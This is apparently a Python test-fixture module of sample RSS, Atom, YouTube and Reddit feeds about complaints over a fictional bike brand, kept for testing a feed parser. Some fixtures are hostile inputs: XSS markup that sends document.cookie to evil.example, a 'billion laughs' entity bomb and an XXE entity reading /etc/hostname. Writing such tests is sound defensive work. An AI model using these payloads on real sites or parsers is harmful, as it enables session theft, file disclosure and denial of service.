"""Feed documents in the real formats: RSS 2.0, Atom 1.0, YouTube channel and Reddit feeds."""

from __future__ import annotations

BLOG_RSS_FR = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>Le Carnet du Cycliste</title>
  <link>https://carnet-cycliste.example/</link>
  <description>Vélo urbain, matériel, coups de gueule</description>
  <language>fr-FR</language>
  <atom:link href="https://carnet-cycliste.example/feed/" rel="self" type="application/rss+xml"/>
  <item>
    <title>Vélonova : trois semaines pour un accusé de réception</title>
    <link>https://carnet-cycliste.example/2026/11/velonova-sav/</link>
    <guid isPermaLink="false">https://carnet-cycliste.example/?p=4211</guid>
    <dc:creator><![CDATA[Camille R.]]></dc:creator>
    <pubDate>Mon, 16 Nov 2026 08:14:03 +0100</pubDate>
    <category>SAV</category>
    <description><![CDATA[Mon vélo électrique est arrivé sans chargeur&#8230;]]></description>
    <content:encoded><![CDATA[<p>Mon vélo électrique Vélonova est arrivé
      <strong>sans chargeur</strong>.
      J'ai écrit trois fois au service client : aucune réponse depuis trois semaines.</p>
      <p>Si rien ne bouge d'ici vendredi, je saisis le médiateur.</p>]]></content:encoded>
  </item>
  <item>
    <title>Essai : l’antivol Bastion U</title>
    <link>https://carnet-cycliste.example/2026/11/essai-bastion-u/</link>
    <guid isPermaLink="false">https://carnet-cycliste.example/?p=4198</guid>
    <dc:creator>Camille R.</dc:creator>
    <pubDate>Fri, 13 Nov 2026 17:02:00 +0100</pubDate>
    <description>Un antivol solide, mais une clé qui se tord trop facilement.</description>
  </item>
</channel>
</rss>
"""

NEWS_ATOM_EN = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title>Cycling Industry News</title>
  <id>tag:cyclingnews.example,2026:feed</id>
  <link rel="alternate" href="https://cyclingnews.example/"/>
  <link rel="self" href="https://cyclingnews.example/atom.xml"/>
  <updated>2026-11-16T10:00:00Z</updated>
  <entry>
    <title type="html">Velonova recalls 4,000 &lt;em&gt;Bastion U&lt;/em&gt; locks</title>
    <id>tag:cyclingnews.example,2026:recall-bastion</id>
    <link rel="alternate" type="text/html" href="/2026/11/velonova-recall"/>
    <published>2026-11-16T09:30:00Z</published>
    <updated>2026-11-16T09:45:00Z</updated>
    <author><name>Priya Shah</name><uri>https://cyclingnews.example/authors/priya</uri>
      <email>priya@cyclingnews.example</email></author>
    <summary>A video showing the lock opened with a pen has been viewed 2 million times.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Velonova said on
      Monday it would <b>recall</b> the Bastion U after a video went viral.</p></div></content>
  </entry>
  <entry>
    <title>Weekly roundup</title>
    <id>tag:cyclingnews.example,2026:roundup-46</id>
    <link rel="alternate" href="https://cyclingnews.example/2026/11/roundup-46"/>
    <updated>2026-11-15T12:00:00Z</updated>
    <summary type="text">Nothing about locks this week.</summary>
  </entry>
</feed>
"""

FORUM_RSS_FR = """<?xml version="1.0" encoding="ISO-8859-1"?>
<rss version="2.0">
<channel>
  <title>Forum Vélotaf - SAV et garanties</title>
  <link>https://forum-velotaf.example/viewforum.php?f=12</link>
  <language>fr</language>
  <item>
    <title>Re: Cadre fissuré, Vélonova refuse la garantie</title>
    <link>https://forum-velotaf.example/viewtopic.php?t=8812#p120331</link>
    <author>gaston@forum-velotaf.example (Gaston)</author>
    <pubDate>Sun, 15 Nov 2026 21:40:12 GMT</pubDate>
    <description>Même problème ici : on m'a renvoyé d'un service à l'autre pendant deux
      mois.</description>
  </item>
</channel>
</rss>
"""

HOSTILE_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Piégé</title><link>https://hostile.example/</link>
  <item>
    <title>Bastion U &lt;script&gt;alert(1)&lt;/script&gt; ouvert</title>
    <link>javascript:alert(document.cookie)</link>
    <guid>hostile-1</guid>
    <pubDate>Mon, 16 Nov 2026 07:00:00 GMT</pubDate>
    <description><![CDATA[<p onclick="steal()">Antivol <script>fetch('https://evil.example/?c='+document.cookie)</script>ouvert
      <img src="x" onerror="alert(1)"><a href="javascript:alert(2)">ici</a>
      <iframe src="https://evil.example/"></iframe><style>body{display:none}</style></p>]]></description>
  </item>
  <item>
    <title>Date du futur</title>
    <link>https://hostile.example/future</link>
    <guid>hostile-2</guid>
    <pubDate>Sat, 01 Jan 2150 00:00:00 GMT</pubDate>
    <description>Publié dans le futur, pour rester en tête de liste.</description>
  </item>
</channel></rss>
"""

YOUTUBE_ATOM = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns:yt="http://www.youtube.com/xml/schemas/2015"
      xmlns:media="http://search.yahoo.com/mrss/" xmlns="http://www.w3.org/2005/Atom">
 <link rel="self" href="http://www.youtube.com/feeds/videos.xml?channel_id=UCvEl0n0vAteSt"/>
 <id>yt:channel:UCvEl0n0vAteSt</id>
 <yt:channelId>UCvEl0n0vAteSt</yt:channelId>
 <title>Vélo Bidouille</title>
 <link rel="alternate" href="https://www.youtube.com/channel/UCvEl0n0vAteSt"/>
 <author><name>Vélo Bidouille</name><uri>https://www.youtube.com/channel/UCvEl0n0vAteSt</uri></author>
 <published>2019-03-01T10:00:00+00:00</published>
 <entry>
  <id>yt:video:Xk3bAs7i0nU</id>
  <yt:videoId>Xk3bAs7i0nU</yt:videoId>
  <yt:channelId>UCvEl0n0vAteSt</yt:channelId>
  <title>J'ouvre l'antivol Bastion U avec un stylo (10 secondes)</title>
  <link rel="alternate" href="https://www.youtube.com/watch?v=Xk3bAs7i0nU"/>
  <author><name>Vélo Bidouille</name><uri>https://www.youtube.com/channel/UCvEl0n0vAteSt</uri></author>
  <published>2026-11-15T18:00:00+00:00</published>
  <updated>2026-11-16T08:00:00+00:00</updated>
  <media:group>
   <media:title>J'ouvre l'antivol Bastion U avec un stylo (10 secondes)</media:title>
   <media:content url="https://www.youtube.com/v/Xk3bAs7i0nU?version=3"
     type="application/x-shockwave-flash" width="640" height="390"/>
   <media:thumbnail url="https://i1.ytimg.com/vi/Xk3bAs7i0nU/hqdefault.jpg"
     width="480" height="360"/>
   <media:description>Démonstration : l'antivol Vélonova Bastion U cède en 10 secondes.
Le SAV ne répond pas depuis un mois.</media:description>
   <media:community>
    <media:starRating count="1840" average="4.80" min="1" max="5"/>
    <media:statistics views="254301"/>
   </media:community>
  </media:group>
 </entry>
</feed>
"""

# Reddit serves its .rss on one line; split here only to fit the page.
REDDIT_ATOM = (
    '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:medi'
    'a="http://search.yahoo.com/mrss/"><category term="bikecommuting" label="r/bikecommuting"/>'
    "<updated>2026-11-16T10:02:11+00:00</updated><icon>https://www.redditstatic.com/icon.png/</"
    'icon><id>/r/bikecommuting.rss</id><link rel="self" href="https://www.reddit.com/r/bikecomm'
    'uting.rss" type="application/atom+xml" /><link rel="alternate" href="https://www.reddit.co'
    'm/r/bikecommuting" type="text/html" /><subtitle>Commuting by bike</subtitle><title>bike co'
    "mmuting</title><entry><author><name>/u/rainy_rider</name><uri>https://www.reddit.com/user/"
    'rainy_rider</uri></author><category term="bikecommuting" label="r/bikecommuting"/><content'
    ' type="html">&lt;!-- SC_OFF --&gt;&lt;div class=&quot;md&quot;&gt;&lt;p&gt;Velonova suppor'
    "t closed my ticket twice without an answer. My frame cracked after 3 months. Anyone had lu"
    "ck with their warranty?&lt;/p&gt; &lt;/div&gt;&lt;!-- SC_ON --&gt; &amp;#32; submitted by "
    "&amp;#32; &lt;a href=&quot;https://www.reddit.com/user/rainy_rider&quot;&gt; /u/rainy_ride"
    'r &lt;/a&gt;</content><id>t3_1gq7x2k</id><link href="https://www.reddit.com/r/bikecommutin'
    'g/comments/1gq7x2k/velonova_warranty/" /><updated>2026-11-16T09:12:03+00:00</updated><publ'
    "ished>2026-11-16T09:12:03+00:00</published><title>Velonova warranty: ticket closed twice, "
    "no answer</title></entry></feed>\n"
)

EMPTY_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Rien</title><link>https://empty.example/</link>
<description>Aucun article</description></channel></rss>
"""

BROKEN_XML = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Cass\xc3\xa9</title><item><title>Pas ferm\xc3\xa9
<description>&undefined; <<<</chan"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<rss version="2.0"><channel><title>lol</title><item><title>&lol9;</title>
<guid>lol</guid><description>&lol9;</description></item></channel></rss>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<rss version="2.0"><channel><title>xxe</title><item><guid>xxe</guid><title>leak</title>
<description>before &secret; after</description></item></channel></rss>
"""


def partly_broken_rss() -> str:
    """One good entry, one entry without any text or title, one with a giant id."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Mixte</title><link>https://mixte.example/</link>
  <item><guid>good-1</guid><title>Vélonova m'a remboursé</title>
    <pubDate>Mon, 16 Nov 2026 07:00:00 GMT</pubDate><description>Merci !</description></item>
  <item><guid>empty-2</guid><pubDate>Mon, 16 Nov 2026 07:01:00 GMT</pubDate></item>
  <item><guid>{"x" * 2000}</guid><title>Identifiant démesuré</title>
    <pubDate>not a date</pubDate><description>Gardé, avec un identifiant haché.</description></item>
</channel></rss>
"""


def many_items_rss(count: int, *, start: int = 0) -> str:
    items = "".join(
        f"<item><guid>item-{n}</guid><title>Article {n}</title><description>Texte {n}</description>"
        f"<pubDate>Mon, 16 Nov 2026 07:00:00 GMT</pubDate></item>"
        for n in range(start, start + count)
    )
    return (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>N</title>{items}</channel></rss>'
    )
